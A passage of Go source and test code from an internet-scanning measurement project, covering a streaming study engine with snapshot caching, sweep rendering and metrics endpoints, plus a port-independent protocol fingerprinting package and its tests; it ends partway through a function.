	// returns the same *Study, not another from-scratch build.
	first, _ := eng.Snapshot(2)
	second, _ := eng.Snapshot(2)
	if first != second {
		t.Fatal("reassembled snapshot was not cached")
	}
}

// TestSnapLRU pins the cache's eviction and recency semantics.
func TestSnapLRU(t *testing.T) {
	var c snapLRU
	mark := make([]*core.Study, snapCacheCap+2)
	for i := range mark {
		mark[i] = &core.Study{}
	}
	for p := 1; p <= snapCacheCap; p++ {
		c.put(p, mark[p])
	}
	if c.get(1) != mark[1] { // touch 1: now most recent
		t.Fatal("miss on resident entry")
	}
	c.put(snapCacheCap+1, mark[snapCacheCap+1]) // evicts 2, not 1
	if c.get(2) != nil {
		t.Fatal("least-recently-used entry survived eviction")
	}
	for _, p := range []int{1, 3, snapCacheCap, snapCacheCap + 1} {
		if c.get(p) != mark[p] {
			t.Fatalf("entry %d missing after eviction of 2", p)
		}
	}
	// Re-putting a resident prefix refreshes it in place.
	repl := &core.Study{}
	c.put(3, repl)
	if c.get(3) != repl || len(c.entries) != snapCacheCap {
		t.Fatal("re-put did not replace in place")
	}
}

// TestConcurrentSweepAndIngest hammers the engine from several
// goroutines while ingestion advances — the serving pattern — and must
// be race-clean.
func TestConcurrentSweepAndIngest(t *testing.T) {
	eng := newTestEngine(t, 4)
	if _, ok, err := eng.IngestNext(); !ok || err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 3; j++ {
				if _, err := eng.Sweep(SweepRequest{Tables: []string{"table2"}, KMin: 1, KMax: 3, Prefixes: []int{1}}); err != nil {
					t.Error(err)
					return
				}
			}
		}()
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		if err := eng.IngestAll(); err != nil {
			t.Error(err)
		}
	}()
	wg.Wait()
	if eng.Ingested() != 4 {
		t.Fatalf("ingested %d, want 4", eng.Ingested())
	}
}
