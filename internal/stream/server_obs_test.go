package stream

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"cloudwatch/internal/obs"
)

// TestServerMetricsEndpoints drives a real engine through ingest and a
// cached render, then asserts the three observability endpoints serve
// what a scraper (and a human) needs: the Prometheus families the
// instrumentation registers, the JSON snapshot, and the trace ring.
func TestServerMetricsEndpoints(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}
	// One render twice: a cache miss then a hit, so the render-cache
	// counters are provably non-zero by the time we scrape.
	getJSON(t, ts.URL+"/v1/snapshot/2/table1", http.StatusOK, nil)
	getJSON(t, ts.URL+"/v1/snapshot/2/table1", http.StatusOK, nil)

	resp, err := http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /metrics = %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain; version=0.0.4") {
		t.Errorf("Content-Type = %q, want Prometheus text format 0.0.4", ct)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	text := string(body)
	// Every family the acceptance criteria name: stage histograms,
	// cache counters, and per-route request metrics. (The recovery
	// outcome family needs a durable store; crash_smoke.sh covers it.)
	for _, want := range []string{
		"# TYPE stage_duration_seconds histogram",
		`stage_duration_seconds_bucket{stage="epoch_generation",le="`,
		`stage_duration_seconds_bucket{stage="incremental_assembly",le="`,
		`stage_duration_seconds_bucket{stage="table_render",le="`,
		`stage_duration_seconds_sum{stage="table_render"}`,
		"# TYPE stream_render_cache_hits_total counter",
		"# TYPE stream_render_cache_misses_total counter",
		"# TYPE stream_render_cache_entries gauge",
		"# TYPE stream_epochs_ingested_total counter",
		"# TYPE stream_snapshot_lru_entries gauge",
		"# TYPE core_records_generated_total counter",
		"# TYPE http_requests_total counter",
		`http_requests_total{route="GET /v1/snapshot/{prefix}/{experiment}"}`,
		"# TYPE http_request_duration_seconds histogram",
		"# TYPE http_in_flight_requests gauge",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("/metrics missing %q", want)
		}
	}

	var snap obs.MetricsSnapshot
	getJSON(t, ts.URL+"/v1/metrics", http.StatusOK, &snap)
	found := false
	for _, fam := range snap.Metrics {
		if fam.Name == "stage_duration_seconds" && fam.Type == "histogram" {
			found = len(fam.Values) > 0
		}
	}
	if !found {
		t.Error("/v1/metrics lacks the stage_duration_seconds histogram family")
	}

	var tr traceResponse
	getJSON(t, ts.URL+"/v1/trace", http.StatusOK, &tr)
	if tr.Capacity != obs.DefaultTraceCapacity {
		t.Errorf("trace capacity = %d, want %d", tr.Capacity, obs.DefaultTraceCapacity)
	}
	if tr.TotalSpans == 0 || len(tr.Recent) == 0 || len(tr.Stages) == 0 {
		t.Errorf("trace = %d total, %d recent, %d stages; want all non-zero",
			tr.TotalSpans, len(tr.Recent), len(tr.Stages))
	}
}

// TestServerStatusReportsCachesAndVersion: /v1/status and /readyz carry
// the build version and the occupancy/capacity of both caches.
func TestServerStatusReportsCachesAndVersion(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}
	getJSON(t, ts.URL+"/v1/snapshot/1/table1", http.StatusOK, nil)

	var st statusResponse
	getJSON(t, ts.URL+"/v1/status", http.StatusOK, &st)
	if st.Version == "" {
		t.Error("status.version is empty")
	}
	if st.RenderCache.Cap <= 0 || st.RenderCache.Entries < 1 {
		t.Errorf("render_cache = %+v, want cap > 0 and at least the render above cached", st.RenderCache)
	}
	if st.SnapshotLRU.Cap != snapCacheCap {
		t.Errorf("snapshot_lru.cap = %d, want %d", st.SnapshotLRU.Cap, snapCacheCap)
	}

	var ready struct {
		Version     string     `json:"version"`
		RenderCache cacheStats `json:"render_cache"`
		SnapshotLRU cacheStats `json:"snapshot_lru"`
	}
	getJSON(t, ts.URL+"/readyz", http.StatusOK, &ready)
	if ready.Version != st.Version {
		t.Errorf("readyz version %q != status version %q", ready.Version, st.Version)
	}
	if ready.RenderCache != st.RenderCache {
		t.Errorf("readyz render_cache %+v != status %+v", ready.RenderCache, st.RenderCache)
	}
}

// TestServerPprofOptIn: /debug/pprof/ is absent by default and present
// after EnablePprof.
func TestServerPprofOptIn(t *testing.T) {
	_, ts := newTestServer(t)
	resp, err := http.Get(ts.URL + "/debug/pprof/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("pprof without opt-in = %d, want 404", resp.StatusCode)
	}

	srv := NewServer(newTestEngine(t, 1))
	srv.SetLogger(nil)
	srv.EnablePprof()
	ts2 := httptest.NewServer(srv.Handler())
	defer ts2.Close()
	resp2, err := http.Get(ts2.URL + "/debug/pprof/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	if resp2.StatusCode != http.StatusOK {
		t.Errorf("pprof with opt-in = %d, want 200", resp2.StatusCode)
	}
	body, _ := io.ReadAll(resp2.Body)
	if !strings.Contains(string(body), "goroutine") {
		t.Error("pprof index does not list profiles")
	}
}
