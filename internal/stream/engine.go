// Package stream is the streaming study engine: it partitions a study
// year into time epochs, ingests them incrementally through the
// epoch-partitioned generator (core.GenerateEpochs), and exposes an
// immutable prefix snapshot per ingested epoch — a full *core.Study on
// which every table, figure, and ablation renders exactly as a batch
// run truncated to the same window would. On top of snapshots it runs
// K/prefix sweeps of the §3.3 comparison tables (Sweep) and serves
// snapshots and sweeps as JSON over HTTP (Server) with
// per-(epoch, experiment) result caching.
package stream

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"cloudwatch/internal/core"
	"cloudwatch/internal/obs"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/store"
)

// Engine-level observability: how the snapshot LRU behaves under read
// traffic (a miss means a from-scratch snapshot_rebuild) and how far
// ingestion has advanced, registry-wide across every engine of the
// process (one serving engine per process is the intended topology;
// multi-engine sweeps simply sum).
var (
	mSnapHits = obs.Default().Counter("stream_snapshot_lru_hits_total",
		"Non-tip snapshot requests served from the prefix-snapshot LRU.")
	mSnapMisses = obs.Default().Counter("stream_snapshot_lru_misses_total",
		"Non-tip snapshot requests that fell out of the LRU and reassembled from scratch.")
	mSnapEvictions = obs.Default().Counter("stream_snapshot_lru_evictions_total",
		"Prefix snapshots evicted from the snapshot LRU.")
	mSnapEntries = obs.Default().Gauge("stream_snapshot_lru_entries",
		"Prefix snapshots currently retained in the snapshot LRU.")
	mEpochsIngested = obs.Default().Counter("stream_epochs_ingested_total",
		"Epochs ingested (incremental snapshot assemblies published).")
)

// Config sizes a streaming study.
type Config struct {
	// Study is the batch study configuration the stream partitions.
	Study core.Config
	// Epochs is the number of time epochs the week is split into
	// (default 8).
	Epochs int
}

// DefaultEpochs is the epoch count used when Config.Epochs is zero.
const DefaultEpochs = 8

// Engine ingests a study epoch by epoch and hands out immutable
// prefix snapshots. Safe for concurrent use: ingestion serializes,
// reads of already-ingested snapshots proceed in parallel — snapshot
// assembly itself runs outside the read lock, so serving never stalls
// behind an ingest.
type Engine struct {
	es *core.EpochSet

	// st, when non-nil, is the durable store backing this engine (see
	// Open): every successful ingest advances its manifest cursor.
	// recovered records whether the study was restored from the store
	// instead of generated.
	st        *store.Store
	recovered bool

	ingestMu sync.Mutex        // serializes ingestion
	inc      *core.Incremental // tip-chain assembler, guarded by ingestMu
	mu       sync.RWMutex
	tip      *core.Study // snapshot of the full ingested prefix
	ingested int

	// cache retains recently used non-tip prefix snapshots (each keeps
	// its own analysis caches warm). It is internally locked and never
	// acquires mu, so it may be touched both under mu and outside it.
	cache snapLRU
}

// snapCacheCap bounds how many non-tip prefix snapshots the engine
// retains. Sixteen covers every prefix of the default 8-epoch split
// with room to spare, while a long split (hourly epochs over a week)
// no longer pins one full Study per epoch in memory: older prefixes
// fall out and are reassembled from scratch on demand.
const snapCacheCap = 16

// snapLRU is a small least-recently-used set of prefix snapshots.
// With at most snapCacheCap entries a slice scan beats any linked
// structure; the zero value is ready to use.
type snapLRU struct {
	mu      sync.Mutex
	entries []snapEntry // most recently used last
}

type snapEntry struct {
	prefix int
	snap   *core.Study
}

func (c *snapLRU) get(prefix int) *core.Study {
	c.mu.Lock()
	defer c.mu.Unlock()
	for i, ent := range c.entries {
		if ent.prefix == prefix {
			copy(c.entries[i:], c.entries[i+1:])
			c.entries[len(c.entries)-1] = ent
			return ent.snap
		}
	}
	return nil
}

func (c *snapLRU) put(prefix int, snap *core.Study) {
	c.mu.Lock()
	defer c.mu.Unlock()
	for i, ent := range c.entries {
		if ent.prefix == prefix {
			copy(c.entries[i:], c.entries[i+1:])
			c.entries[len(c.entries)-1] = snapEntry{prefix, snap}
			return
		}
	}
	if len(c.entries) >= snapCacheCap {
		copy(c.entries, c.entries[1:])
		c.entries = c.entries[:len(c.entries)-1]
		mSnapEvictions.Inc()
	}
	c.entries = append(c.entries, snapEntry{prefix, snap})
	mSnapEntries.Set(int64(len(c.entries)))
}

// len returns the current entry count.
func (c *snapLRU) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}

// New generates the epoch-partitioned study material (the expensive
// step: one full pass of the sharded generators) and returns an engine
// with nothing ingested yet.
func New(cfg Config) (*Engine, error) {
	epochs := cfg.Epochs
	if epochs <= 0 {
		epochs = DefaultEpochs
	}
	es, err := core.GenerateEpochs(cfg.Study, epochs)
	if err != nil {
		return nil, err
	}
	// es.NumEpochs() is the authoritative count (netsim clamps
	// degenerate epoch requests).
	return &Engine{es: es, inc: es.Incremental()}, nil
}

// NumEpochs returns the total number of epochs.
func (e *Engine) NumEpochs() int { return e.es.NumEpochs() }

// Scenario returns the canonical scenario id this engine's study was
// generated under. One engine serves exactly one scenario; sweeping
// several means one engine per scenario (the CLI's one-shot sweep mode
// does exactly that).
func (e *Engine) Scenario() string { return e.es.Config().Scenario() }

// Ingested returns how many epochs have been ingested so far.
func (e *Engine) Ingested() int {
	e.mu.RLock()
	defer e.mu.RUnlock()
	return e.ingested
}

// Window returns the wall-clock span of epoch i.
func (e *Engine) Window(i int) (start, end time.Time) { return e.es.Window(i) }

// EpochRecords returns the honeypot records generated inside epoch i.
func (e *Engine) EpochRecords(i int) int { return e.es.EpochRecords(i) }

// EpochTelescopePackets returns the telescope packets of epoch i.
func (e *Engine) EpochTelescopePackets(i int) int { return e.es.EpochTelescopePackets(i) }

// IngestNext ingests the next epoch and materializes its prefix
// snapshot incrementally: the assembler adopts the previous snapshot
// and folds in only the new epoch's columns and collector shards
// (core.Incremental), so per-epoch ingest cost is flat in the prefix
// length. It reports the new prefix length, or ok=false when every
// epoch is already ingested. The O(epoch) snapshot assembly runs
// outside the read-write lock (the assembler only ever appends past
// published snapshot lengths), so concurrent snapshot reads and
// sweeps proceed while an epoch ingests; only the publish at the end
// takes the write lock.
func (e *Engine) IngestNext() (prefix int, ok bool, err error) {
	e.ingestMu.Lock()
	defer e.ingestMu.Unlock()
	p := e.inc.Prefix() + 1
	if p > e.es.NumEpochs() {
		return p - 1, false, nil
	}
	snap, err := e.inc.Advance()
	if err != nil {
		return p - 1, false, err
	}
	e.mu.Lock()
	if e.tip != nil {
		// The outgoing tip is now a non-tip prefix; keep it warm.
		e.cache.put(p-1, e.tip)
	}
	e.tip = snap
	e.ingested = p
	e.mu.Unlock()
	mEpochsIngested.Inc()
	if e.st != nil {
		// The in-memory ingest stands either way (the snapshot is
		// published and a retry ingests the next epoch); the error
		// reports that durability lagged — after a crash the engine
		// would rehydrate to the last cursor that did land, which is
		// always a valid prefix.
		if perr := e.st.SetIngested(p); perr != nil {
			return p, true, fmt.Errorf("stream: epoch %d ingested but not persisted: %w", p, perr)
		}
	}
	return p, true, nil
}

// Recovered reports whether the engine's study was restored from its
// durable store rather than generated (false for engines without a
// store).
func (e *Engine) Recovered() bool { return e.recovered }

// SnapCacheStats reports the snapshot LRU's occupancy and capacity
// (the tip snapshot is held separately and not counted).
func (e *Engine) SnapCacheStats() (entries, capacity int) {
	return e.cache.len(), snapCacheCap
}

// Close releases the engine's durable store, if any. Snapshots remain
// servable; only durability updates stop.
func (e *Engine) Close() error {
	if e.st == nil {
		return nil
	}
	return e.st.Close()
}

// IngestAll ingests every remaining epoch.
func (e *Engine) IngestAll() error {
	for {
		_, ok, err := e.IngestNext()
		if err != nil {
			return err
		}
		if !ok {
			return nil
		}
	}
}

// Snapshot returns the immutable study of the first `prefix` epochs.
// The prefix must already be ingested. The tip snapshot is always
// retained; recent non-tip prefixes are served from a small LRU of
// chain-assembled snapshots (each keeps its own analysis caches warm),
// and a prefix that has fallen out of the LRU is reassembled from
// scratch through core.EpochSet.Snapshot — generation being
// deterministic, the reassembled study renders byte-identically to the
// chain snapshot it replaces, it just starts with cold render caches.
func (e *Engine) Snapshot(prefix int) (*core.Study, error) {
	e.mu.RLock()
	ingested, tip := e.ingested, e.tip
	e.mu.RUnlock()
	if prefix < 1 || prefix > e.es.NumEpochs() {
		return nil, fmt.Errorf("stream: snapshot prefix %d out of range [1, %d]", prefix, e.es.NumEpochs())
	}
	if prefix > ingested {
		return nil, fmt.Errorf("stream: epoch prefix %d not ingested yet (%d/%d ingested)", prefix, ingested, e.es.NumEpochs())
	}
	if prefix == ingested {
		return tip, nil
	}
	if snap := e.cache.get(prefix); snap != nil {
		mSnapHits.Inc()
		return snap, nil
	}
	mSnapMisses.Inc()
	// Evicted from the LRU: reassemble from scratch, outside any lock
	// (concurrent misses may both assemble; both results are valid and
	// identical, and the second put just refreshes recency).
	snap, err := e.es.Snapshot(prefix)
	if err != nil {
		return nil, err
	}
	e.cache.put(prefix, snap)
	return snap, nil
}

// SweepRequest selects the grid of one sweep: which §3.3 comparison
// tables, which top-K widths, and which epoch prefixes.
type SweepRequest struct {
	// Tables must be a subset of core.SweepTables(); empty means
	// {table2, table5}.
	Tables []string `json:"tables"`
	// KMin/KMax bound the top-K width axis, inclusive; zero values
	// default to 1..10.
	KMin int `json:"k_min"`
	KMax int `json:"k_max"`
	// Prefixes lists the epoch prefixes to render; empty means every
	// ingested prefix.
	Prefixes []int `json:"prefixes"`
	// Scenarios is the scenario axis of the grid. An engine holds one
	// scenario's study, so against a single engine the axis selects
	// (empty means the engine's own scenario, and naming any other is
	// an error enumerating what this engine serves); a multi-scenario
	// sweep merges per-engine results, with every cell tagged.
	Scenarios []string `json:"scenarios,omitempty"`
}

// SweepCell is one rendered (scenario, prefix, K, table) grid point.
type SweepCell struct {
	Scenario  string `json:"scenario"`
	Prefix    int    `json:"prefix"`
	WindowEnd string `json:"window_end"` // RFC 3339 end of the prefix window
	K         int    `json:"k"`
	Table     string `json:"table"`
	Output    string `json:"output"`
}

// SweepResult is a finished sweep with its throughput.
type SweepResult struct {
	Year          int         `json:"year"`
	Seed          int64       `json:"seed"`
	Scenarios     []string    `json:"scenarios"`
	Cells         []SweepCell `json:"cells"`
	Renders       int         `json:"renders"`
	Seconds       float64     `json:"seconds"`
	RendersPerSec float64     `json:"renders_per_sec"`
}

// MergeSweepResults combines per-scenario sweep results (one engine
// per scenario) into a single grid: cells concatenate in argument
// order, scenario lists concatenate, and the throughput re-derives
// from the summed wall-clock. Results must share Year and Seed.
func MergeSweepResults(results ...*SweepResult) *SweepResult {
	merged := &SweepResult{}
	for i, r := range results {
		if i == 0 {
			merged.Year, merged.Seed = r.Year, r.Seed
		}
		merged.Scenarios = append(merged.Scenarios, r.Scenarios...)
		merged.Cells = append(merged.Cells, r.Cells...)
		merged.Seconds += r.Seconds
	}
	merged.Renders = len(merged.Cells)
	if merged.Seconds > 0 {
		merged.RendersPerSec = float64(merged.Renders) / merged.Seconds
	}
	return merged
}

// normalize validates a request against the engine state and fills
// defaults. Returned errors enumerate the valid values.
func (e *Engine) normalize(req SweepRequest) (SweepRequest, error) {
	active := e.Scenario()
	if len(req.Scenarios) == 0 {
		req.Scenarios = []string{active}
	}
	for _, id := range req.Scenarios {
		if _, ok := scanners.LookupScenario(id); !ok {
			return req, fmt.Errorf("stream: unknown scenario %q; valid: %s",
				id, strings.Join(scanners.Scenarios(), ", "))
		}
		if scanners.CanonicalScenario(id) != active {
			return req, fmt.Errorf("stream: scenario %q is not served by this engine (active scenario: %s)", id, active)
		}
	}
	if len(req.Tables) == 0 {
		req.Tables = []string{"table2", "table5"}
	}
	valid := core.SweepTables()
	for _, tbl := range req.Tables {
		ok := false
		for _, v := range valid {
			if tbl == v {
				ok = true
				break
			}
		}
		if !ok {
			return req, fmt.Errorf("stream: unknown sweep table %q; valid: %s", tbl, strings.Join(valid, ", "))
		}
	}
	if req.KMin == 0 {
		req.KMin = 1
	}
	if req.KMax == 0 {
		req.KMax = 10
	}
	if req.KMin < 1 || req.KMax < req.KMin {
		return req, fmt.Errorf("stream: invalid K range [%d, %d]; need 1 <= k_min <= k_max", req.KMin, req.KMax)
	}
	ingested := e.Ingested()
	if len(req.Prefixes) == 0 {
		for p := 1; p <= ingested; p++ {
			req.Prefixes = append(req.Prefixes, p)
		}
	} else {
		sorted := append([]int(nil), req.Prefixes...)
		sort.Ints(sorted)
		deduped := make([]int, 0, len(sorted))
		for _, p := range sorted {
			if p < 1 || p > ingested {
				return req, fmt.Errorf("stream: prefix %d not ingested; valid: 1..%d", p, ingested)
			}
			if n := len(deduped); n > 0 && deduped[n-1] == p {
				continue // duplicates would double-count renders
			}
			deduped = append(deduped, p)
		}
		req.Prefixes = deduped
	}
	if len(req.Prefixes) == 0 {
		return req, fmt.Errorf("stream: nothing ingested yet; call IngestNext first")
	}
	return req, nil
}

// Sweep renders every (prefix, K, table) grid point of the request.
// Each prefix snapshot's interned category dictionaries and ranked
// per-(view, characteristic) summaries are built once and reused by
// every K (only the family's chi-squared pass depends on K), and
// finished families are memoized per K — so repeated and overlapping
// sweeps cost renders, not recomputation. Safe for concurrent use.
func (e *Engine) Sweep(req SweepRequest) (*SweepResult, error) {
	req, err := e.normalize(req)
	if err != nil {
		return nil, err
	}
	cfg := e.es.Config()
	res := &SweepResult{Year: cfg.Year, Seed: cfg.Seed, Scenarios: []string{e.Scenario()}}
	start := time.Now()
	for _, p := range req.Prefixes {
		snap, err := e.Snapshot(p)
		if err != nil {
			return nil, err
		}
		_, end := e.es.Window(p - 1)
		for k := req.KMin; k <= req.KMax; k++ {
			for _, tbl := range req.Tables {
				out, ok := core.RenderExperimentAtK(snap, tbl, k)
				if !ok {
					return nil, fmt.Errorf("stream: unknown sweep table %q; valid: %s", tbl, strings.Join(core.SweepTables(), ", "))
				}
				res.Cells = append(res.Cells, SweepCell{
					Scenario:  e.Scenario(),
					Prefix:    p,
					WindowEnd: end.UTC().Format(time.RFC3339),
					K:         k,
					Table:     tbl,
					Output:    out,
				})
			}
		}
	}
	res.Renders = len(res.Cells)
	res.Seconds = time.Since(start).Seconds()
	if res.Seconds > 0 {
		res.RendersPerSec = float64(res.Renders) / res.Seconds
	}
	return res, nil
}
