package fingerprint

import (
	"testing"
	"testing/quick"
)

func TestProbeRoundTrip(t *testing.T) {
	for _, p := range All() {
		if got := Identify(Probe(p)); got != p {
			t.Errorf("Identify(Probe(%v)) = %v", p, got)
		}
	}
}

func TestIdentifyHTTPVariants(t *testing.T) {
	cases := []string{
		"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
		"POST /login HTTP/1.0\r\nContent-Length: 2\r\n\r\nhi",
		"HEAD /favicon.ico HTTP/1.1\r\n\r\n",
		"PATCH /api HTTP/1.1\r\n\r\n",
		"GET /index.html", // HTTP/0.9-style without version token
	}
	for _, c := range cases {
		if got := Identify([]byte(c)); got != HTTP {
			t.Errorf("Identify(%q) = %v, want http", c, got)
		}
	}
}

func TestIdentifyDisambiguatesOptionsMethod(t *testing.T) {
	cases := map[string]Protocol{
		"OPTIONS / HTTP/1.1\r\n\r\n":               HTTP,
		"OPTIONS rtsp://x/ RTSP/1.0\r\n\r\n":       RTSP,
		"OPTIONS sip:x SIP/2.0\r\n\r\n":            SIP,
		"DESCRIBE rtsp://cam/live RTSP/1.0\r\n":    RTSP,
		"REGISTER sip:proxy SIP/2.0\r\nVia: x\r\n": SIP,
	}
	for payload, want := range cases {
		if got := Identify([]byte(payload)); got != want {
			t.Errorf("Identify(%q) = %v, want %v", payload, got, want)
		}
	}
}

func TestIdentifyBinaryProtocols(t *testing.T) {
	if got := Identify([]byte("SSH-2.0-OpenSSH_8.9\r\n")); got != SSH {
		t.Errorf("ssh banner = %v", got)
	}
	if got := Identify([]byte{0xFF, 0xFD, 0x01}); got != Telnet {
		t.Errorf("telnet IAC DO = %v", got)
	}
	if got := Identify([]byte("fox a 1 -1 fox hello\n")); got != Fox {
		t.Errorf("fox hello = %v", got)
	}
	if got := Identify([]byte("*2\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n")); got != Redis {
		t.Errorf("redis RESP = %v", got)
	}
	if got := Identify([]byte("PING\r\n")); got != Redis {
		t.Errorf("redis inline = %v", got)
	}
}

func TestIdentifyRejectsNearMisses(t *testing.T) {
	cases := []struct {
		name    string
		payload []byte
	}{
		{"empty", nil},
		{"garbage text", []byte("hello world\r\n")},
		{"bad TLS version", []byte{0x16, 0x04, 0x01, 0x00, 0x10, 0x01}},
		{"TLS server hello (not client)", []byte{0x16, 0x03, 0x03, 0x00, 0x10, 0x02}},
		{"short telnet", []byte{0xFF}},
		{"telnet bad command", []byte{0xFF, 0x01}},
		{"truncated SMB", []byte{0x00, 0x00, 0x00}},
		{"RDP wrong x224 code", []byte{0x03, 0x00, 0x00, 0x0B, 0x06, 0xD0, 0, 0, 0, 0, 0}},
		{"NTP wrong size", make([]byte, 47)},
		{"method without target", []byte("GETX/ HTTP/1.1")},
		{"version token without method", []byte("FOO / HTTP/1.1\r\n")},
	}
	for _, c := range cases {
		if got := Identify(c.payload); got != Unknown {
			t.Errorf("%s: Identify = %v, want unknown", c.name, got)
		}
	}
}

func TestIdentifyNTP(t *testing.T) {
	p := make([]byte, 48)
	p[0] = 0x1B // v3 client
	if got := Identify(p); got != NTP {
		t.Errorf("ntp v3 client = %v", got)
	}
	p[0] = 0x17 // v2 mode 7 (monlist)
	if got := Identify(p); got != NTP {
		t.Errorf("ntp monlist = %v", got)
	}
	p[0] = 0x0B // v1: too old
	if got := Identify(p); got == NTP {
		t.Errorf("ntp v1 should not match")
	}
}

func TestIdentifyNeverPanicsProperty(t *testing.T) {
	f := func(data []byte) bool {
		_ = Identify(data)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Error(err)
	}
}

func TestIdentifyDeterministicProperty(t *testing.T) {
	f := func(data []byte) bool {
		return Identify(data) == Identify(data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestExpected(t *testing.T) {
	cases := map[uint16]Protocol{
		22:   SSH,
		2222: SSH,
		23:   Telnet,
		2323: Telnet,
		80:   HTTP,
		8080: HTTP,
		443:  TLS,
		445:  SMB,
		3306: MySQL,
		6379: Redis,
		9999: Unknown,
	}
	for port, want := range cases {
		if got := Expected(port); got != want {
			t.Errorf("Expected(%d) = %v, want %v", port, got, want)
		}
	}
}

func TestIsUnexpected(t *testing.T) {
	// TLS ClientHello on port 80 is the paper's canonical unexpected
	// protocol (7% of port-80 scanners target TLS).
	if !IsUnexpected(80, Probe(TLS)) {
		t.Error("TLS on port 80 should be unexpected")
	}
	if IsUnexpected(80, Probe(HTTP)) {
		t.Error("HTTP on port 80 should be expected")
	}
	if IsUnexpected(443, Probe(TLS)) {
		t.Error("TLS on 443 should be expected")
	}
	// Unknown payloads are a lower bound: not counted.
	if IsUnexpected(80, []byte("garbage")) {
		t.Error("unidentifiable payload should not count as unexpected")
	}
	// Ports without an assignment cannot host unexpected protocols.
	if IsUnexpected(31337, Probe(HTTP)) {
		t.Error("unassigned port should not count as unexpected")
	}
}

func TestProtocolString(t *testing.T) {
	if HTTP.String() != "http" || Unknown.String() != "unknown" {
		t.Errorf("String: %v %v", HTTP, Unknown)
	}
	if Protocol(99).String() != "Protocol(99)" {
		t.Errorf("out of range: %v", Protocol(99))
	}
	if len(All()) != 13 {
		t.Errorf("All() = %d protocols, want 13", len(All()))
	}
}

func TestProbePanicsOnUnknown(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("Probe(Unknown) should panic")
		}
	}()
	Probe(Unknown)
}
