// Package fingerprint identifies the application protocol of a first
// client payload independent of destination port, in the spirit of LZR
// ("LZR: Identifying Unexpected Internet Services", USENIX Security
// 2021), which the paper uses "to fingerprint unexpected services for
// 13 of the most popular TCP scanning protocols: HTTP, TLS, SSH,
// TELNET, SMB, RTSP, SIP, NTP, RDP, ADB, FOX, REDIS and SQL" (§6).
//
// Identify never panics on arbitrary input and is deterministic; it is
// the mechanism behind Table 11's finding that ≥15% of scanners on
// ports 80/8080 target a protocol other than HTTP.
package fingerprint

import (
	"bytes"
	"encoding/binary"
	"fmt"
)

// Protocol is an application protocol distinguishable from a first
// client payload.
type Protocol int

// The 13 LZR protocols plus Unknown.
const (
	Unknown Protocol = iota
	HTTP
	TLS
	SSH
	Telnet
	SMB
	RTSP
	SIP
	NTP
	RDP
	ADB
	Fox
	Redis
	MySQL
)

var protocolNames = map[Protocol]string{
	Unknown: "unknown",
	HTTP:    "http",
	TLS:     "tls",
	SSH:     "ssh",
	Telnet:  "telnet",
	SMB:     "smb",
	RTSP:    "rtsp",
	SIP:     "sip",
	NTP:     "ntp",
	RDP:     "rdp",
	ADB:     "adb",
	Fox:     "fox",
	Redis:   "redis",
	MySQL:   "mysql",
}

// String returns the lowercase protocol name.
func (p Protocol) String() string {
	if s, ok := protocolNames[p]; ok {
		return s
	}
	return fmt.Sprintf("Protocol(%d)", int(p))
}

// All lists every identifiable protocol (excluding Unknown) in stable
// order.
func All() []Protocol {
	return []Protocol{HTTP, TLS, SSH, Telnet, SMB, RTSP, SIP, NTP, RDP, ADB, Fox, Redis, MySQL}
}

// Identify returns the protocol of a first client payload, or Unknown.
// Binary protocols with strong magic values are checked before the
// text protocols; among text protocols the request-line version token
// (HTTP/, RTSP/, SIP/) disambiguates shared method names like OPTIONS.
func Identify(payload []byte) Protocol {
	if len(payload) == 0 {
		return Unknown
	}
	switch {
	case isTLS(payload):
		return TLS
	case isSSH(payload):
		return SSH
	case isSMB(payload):
		return SMB
	case isRDP(payload):
		return RDP
	case isADB(payload):
		return ADB
	case isNTP(payload):
		return NTP
	case isFox(payload):
		return Fox
	case isTelnet(payload):
		return Telnet
	case isRedis(payload):
		return Redis
	case isMySQL(payload):
		return MySQL
	}
	// Text request-line protocols last: cheap prefix checks first,
	// then version-token disambiguation.
	switch textRequestProtocol(payload) {
	case RTSP:
		return RTSP
	case SIP:
		return SIP
	case HTTP:
		return HTTP
	}
	return Unknown
}

func isTLS(b []byte) bool {
	// TLS record: ContentType handshake (0x16), version major 3,
	// minor 0..4, plausible record length, handshake type ClientHello.
	if len(b) < 6 {
		return false
	}
	if b[0] != 0x16 || b[1] != 0x03 || b[2] > 0x04 {
		return false
	}
	recLen := int(binary.BigEndian.Uint16(b[3:5]))
	if recLen < 4 || recLen > 1<<14+256 {
		return false
	}
	return b[5] == 0x01 // ClientHello
}

func isSSH(b []byte) bool {
	return bytes.HasPrefix(b, []byte("SSH-"))
}

func isSMB(b []byte) bool {
	// NetBIOS session message (0x00) framing an SMB1/SMB2 header.
	if len(b) >= 8 && b[0] == 0x00 {
		if bytes.Equal(b[4:8], []byte{0xFF, 'S', 'M', 'B'}) || bytes.Equal(b[4:8], []byte{0xFE, 'S', 'M', 'B'}) {
			return true
		}
	}
	// Bare SMB header without NetBIOS framing.
